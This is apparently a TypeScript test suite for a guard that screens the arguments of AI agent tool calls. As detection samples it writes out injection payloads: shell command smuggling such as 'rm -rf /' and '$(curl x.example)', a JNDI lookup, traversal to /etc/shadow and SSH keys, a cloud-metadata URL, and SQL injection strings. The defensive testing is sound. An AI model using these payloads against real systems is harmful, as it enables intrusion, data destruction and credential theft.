/** What the arguments of a call hold beside their values. */
import { toolGuard } from '#core/contracts/config/tool-guard.ts';
import type { Decision } from '#core/contracts/envelope.ts';
import { checkArguments } from '#core/guard/arguments.ts';
import { argumentVerdict } from '#core/guard/decide-arguments.ts';
import { addVerdict, type Verdict } from '#core/policy/rules/verdict.ts';

const kinds = (parameters: Record<string, unknown>) => [...new Set(checkArguments(parameters).map(({ kind }) => kind))];
const definition = (name: string, schema: string) => ({ name, description: name, [schema]: { type: 'object' } });
const guard = { actions: toolGuard.parse({}).arguments, check: checkArguments };

describe('[guard.arguments] found are', () => {
  test.each<[string, Record<string, unknown>, string]>([
    ['a second command', { path: 'a.txt; rm -rf /' }, 'command'],
    ['a substitution', { branch: 'main$(curl x.example)' }, 'command'],
    ['an option for a name', { ref: '--upload-pack=touch /tmp/x' }, 'command'],
    ['a template', { name: '{{7*7}}' }, 'template'],
    ['a lookup, in any text', { body: 'hi ${jndi:ldap://x.example/a}' }, 'template'],
    ['an encoded step', { file: '..%2f..%2fetc/hosts' }, 'path'],
    ['a climb', { path: '../../../../etc/shadow' }, 'path'],
    ['a key', { path: '/home/a/.ssh/id_rsa' }, 'path'],
    ['cloud metadata', { url: 'http://169.254.169.254/latest/meta-data/' }, 'url'],
    ['a number for a host', { url: 'http://2130706433/' }, 'url'],
    ['a disguised host', { url: 'https://github.com@collect.example/' }, 'url'],
    ['a scheme for files', { url: 'file:///etc/hosts' }, 'url'],
    ['a token', { comment: `ghp_${'a1B2'.repeat(9)}` }, 'secret'],
    ['a token in base64', { comment: `see ${Buffer.from(`ghp_${'a1B2'.repeat(9)}`).toString('base64')}` }, 'secret'],
    [
      'a token in base64 of JSON',
      { data: Buffer.from(`{"t":"ghp_${'a1B2'.repeat(9)}"}`).toString('base64url') },
      'secret',
    ],
    ['a token in hexadecimal digits', { note: Buffer.from(`ghp_${'a1B2'.repeat(9)}`).toString('hex') }, 'secret'],
    ['a condition of SQL', { id: "x' OR '1'='1" }, 'command'],
    ['another statement of SQL', { user: "x'; DROP TABLE users; --" }, 'command'],
    ['a union of SQL', { table: "t') UNION ALL SELECT password FROM users" }, 'command'],
    ['a card number', { note: 'card 4111 1111 1111 1111' }, 'personal_data'],
    ['a prompt', { text: 'You are a helpful assistant.\nKnowledge cutoff: 2025' }, 'prompt'],
    ['a list of tools', { text: '{"inputSchema":{}},{"inputSchema":{}}' }, 'prompt'],
    ['definitions of MCP', { context: [definition('a', 'inputSchema'), definition('b', 'inputSchema')] }, 'prompt'],
    [
      'definitions for a model',
      { a: { b: ['a', 'b'].map((name) => ({ type: 'function', function: definition(name, 'parameters') })) } },
      'prompt',
    ],
    ['a value deep inside', { a: [{ b: { path: 'x;rm -rf /' } }] }, 'command'],
  ])('%s', (_what, parameters, kind) => {
    expect(kinds(parameters)).toContain(kind);
  });

  test.each<[string, Record<string, unknown>]>([
    ['a program in a text', { content: 'rm -rf build; npm ci && npm test | tee log' }],
    ['a neighbour folder', { path: '../lib/a.ts' }],
    ['a title with signs', { title: 'Fix: a & b; then c' }],
    ['a name with a sign', { name: "O'Brien & Sons" }],
    ['a name with quotation marks', { name: "The 'Cats' or 'Dogs' club; update 2" }],
    ['a question in quotation marks', { search: "'cats' and dogs = pets" }],
    ['a digest', { sha: 'da39a3ee5e6b4b0d3255bfef95601890afd80709', note: 'a'.repeat(70_000) }],
    ['an address', { url: 'https://example.com/a?b=c&d=%20e#f' }],
    ['an address of a service here', { url: 'http://localhost:3000/health' }],
    ['a token where one belongs', { api_key: `ghp_${'a1B2'.repeat(9)}` }],
    ['a public key', { path: 'keys/id_rsa.pub' }],
    ['an example environment', { path: '.env.example' }],
    ['prose about prompts', { body: 'The system prompt is explained in chapter two.' }],
    ['a resource of a server', { uri: 'file:///work/README.md' }],
    ['a format', { format: 'YYYY-MM-DD' }],
    ['one definition', { tool: definition('a', 'inputSchema') }],
    [
      'things with names',
      { items: ['a', 'b', 'c'].map((name) => ({ name, description: name, parameters: { x: 1 } })) },
    ],
    ['base64 of a text', { attachment: Buffer.from('The report of November, with all figures.').toString('base64') }],
    [
      'base64 of a picture',
      { image: Buffer.from(Array.from({ length: 900 }, (_, at) => (at * 73) % 256)).toString('base64') },
    ],
  ])('%s is not', (_what, parameters) => {
    expect(kinds(parameters)).toEqual([]);
  });
});

describe('[guard.arguments] the decision', () => {
  const call = { protocol: 'mcp', tool: 'get', target: '', capability: 'read', parameters: { path: 'a;rm -rf /' } };
  test('is what the gravest finding asks for; a rule that decides as strictly stays', () => {
    const found = argumentVerdict(call, guard)!;
    expect(found).toMatchObject({ decision: 'review', matched_rule: 'tool_guard:command' });
    const blocks = { ...guard, actions: { ...guard.actions, command: 'block' } } as const;
    expect(argumentVerdict(call, blocks)).toMatchObject({ decision: 'block' });
    const ofRule = (decision: Decision) => ({ decision, matched_rule: 'mcp:get', reason: 'of the rule' });
    const guards = [{ kind: 'command' }];
    expect(addVerdict<Verdict>(ofRule('review'), found)).toMatchObject({ ...ofRule('review'), guard: guards });
    expect(addVerdict<Verdict>(ofRule('allow'), found)).toMatchObject({ ...found, guard: guards });
  });

  test('of a protocol with a grammar of its own is that grammar’s', () => {
    expect(argumentVerdict({ ...call, protocol: 'Shell' }, guard)).toBeUndefined();
  });

  test('[guard.fails-closed] on arguments nested beyond every walk is review', () => {
    let deep: unknown = 'x';
    for (let level = 0; level < 100; level++) deep = { deep };
    expect(argumentVerdict({ ...call, parameters: { deep } }, guard)).toMatchObject({
      decision: 'review',
      matched_rule: 'tool_guard:unread',
    });
  });
});
